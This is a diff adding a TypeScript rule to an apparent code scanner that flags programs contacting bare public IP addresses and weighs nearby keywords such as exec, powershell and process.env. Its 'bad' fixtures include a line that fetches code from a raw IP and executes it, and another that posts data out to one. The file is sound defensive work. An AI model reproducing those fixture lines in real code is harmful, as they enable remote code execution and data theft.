@@ -1,0 +1,62 @@
+import type { FileCheck } from '../../check.ts';
+import { isCode } from '../../inventory/language.ts';
+
+const URL_WITH_ADDRESS = /\b(?:https?|wss?|ftp):\/\/((?:\d{1,3}\.){3}\d{1,3})(?::\d{1,5})?(?:\/[\w./?=&%~-]{0,150})?/g;
+/** Private, loopback, link-local, multicast and reserved ranges, and those kept for documentation. */
+const NOT_PUBLIC =
+  /^(?:0|10|127)\.|^169\.254\.|^192\.168\.|^172\.(?:1[6-9]|2\d|3[01])\.|^100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|^192\.0\.[02]\.|^198\.(?:1[89]|51)\.|^203\.0\.113\.|^(?:22[4-9]|2[3-5]\d)\./;
+/** Public resolvers and the like: known by their numbers. */
+const WELL_KNOWN =
+  /^(?:1\.1\.1\.1|1\.0\.0\.1|8\.8\.8\.8|8\.8\.4\.4|9\.9\.9\.9|208\.67\.22[02]\.22[02]|1\.2\.3\.4|4\.4\.4\.4)$/;
+const CODE_MOVES =
+  /\b(?:exec|eval|spawn|system|popen|subprocess|child_process|chmod|base64|atob|b64decode|powershell|\bsh\b|bash|download|upload|payload|environ|process\.env)\b/i;
+
+export const check: FileCheck = {
+  id: 'network-raw-ip-endpoint',
+  title: 'Talks to a bare public address',
+  severity: 'medium',
+  kind: 'malice',
+  confidence: 'low',
+  since: '0.1.0',
+  cwe: [1051],
+  why: `
+    Honest services have names, certificates and owners. A program that talks to a bare address cannot be tied to anybody,
+    and the machine behind the number can change hands overnight.`,
+  fix: 'Use a host name over HTTPS, and let the address be a setting.',
+  wants: { keywords: ['://'] },
+  examples: {
+    bad: [
+      {
+        'index.js':
+          "const cp = require('child_process');\nhttps.get('«http://45.77.12.90:8080/p»', (r) => cp.exec(r));\n",
+      },
+      { 'beat.py': 'requests.post("«http://185.12.45.9/api»", json=info)\n' },
+    ],
+    good: [
+      { 'dev.py': 'requests.get("http://127.0.0.1:8000/health")\n' },
+      { 'dns.go': 'const resolver = "https://1.1.1.1/dns-query"\n' },
+      { 'docs.py': 'requests.get("http://203.0.113.7/api")\n' },
+      { 'data.json': '{"seen": "http://45.77.12.90/x"}' },
+    ],
+  },
+
+  *find({ windows, language }) {
+    if (!isCode(language)) return;
+    for (const window of windows) {
+      for (const match of window.text.matchAll(URL_WITH_ADDRESS)) {
+        const address = match[1] ?? '';
+        if (NOT_PUBLIC.test(address) || WELL_KNOWN.test(address) || !isAddress(address)) continue;
+        const nearby = window.text.slice(Math.max(0, match.index - 160), match.index + 300);
+        yield {
+          at: window.span(match.index, match.index + match[0].length),
+          message: `The code talks to ${address}, an address without a name.`,
+          confidence: CODE_MOVES.test(nearby) ? 'medium' : 'low',
+        };
+      }
+    }
+  },
+};
+
+function isAddress(text: string): boolean {
+  return text.split('.').every((part) => Number(part) <= 255);
+}
